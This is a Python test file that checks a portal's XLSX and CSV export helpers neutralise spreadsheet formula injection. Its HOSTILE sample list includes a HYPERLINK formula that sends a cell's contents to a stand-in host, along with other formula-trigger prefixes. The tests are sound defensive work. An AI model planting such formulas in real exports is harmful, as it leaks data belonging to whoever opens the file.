import io
from decimal import Decimal

from openpyxl import Workbook, load_workbook

from npo_portal.exports import append_row, csv_writer

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?d="&B6,"Klik hier")',
    "+31 118 123456",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_texts_that_look_like_formulas_are_written_as_plain_text_cells():
    workbook = Workbook()
    sheet = workbook.active
    for text in HOSTILE:
        append_row(sheet, [text, Decimal("12.50"), 3])
    buffer = io.BytesIO()
    workbook.save(buffer)

    reread = load_workbook(io.BytesIO(buffer.getvalue())).active
    for row, text in zip(reread.iter_rows(), HOSTILE, strict=True):
        assert row[0].data_type == "s"
        assert row[0].value == text.replace("\r", "\n")  # XML keeps no bare CR
        assert row[1].data_type == "n" and row[1].value == 12.5
        assert row[2].value == 3


def test_control_characters_are_dropped_so_the_workbook_can_be_written():
    workbook = Workbook()
    append_row(workbook.active, ["a\x00b\x07c"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert load_workbook(io.BytesIO(buffer.getvalue())).active["A1"].value == "abc"


def test_csv_prefixes_formula_like_texts_and_keeps_numbers():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["=1+1", "@A1", "gewoon", Decimal("-5.00"), "-"])
    assert buffer.getvalue() == "'=1+1;'@A1;gewoon;-5.00;'-\r\n"


def test_a_write_only_sheet_takes_safe_texts_too():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Uitgaven")
    append_row(sheet, ["=SUM(A1)", 12, "gewoon"])
    stream = io.BytesIO()
    workbook.save(stream)
    cell = load_workbook(stream).active["A1"]
    assert (cell.value, cell.data_type) == ("=SUM(A1)", "s")
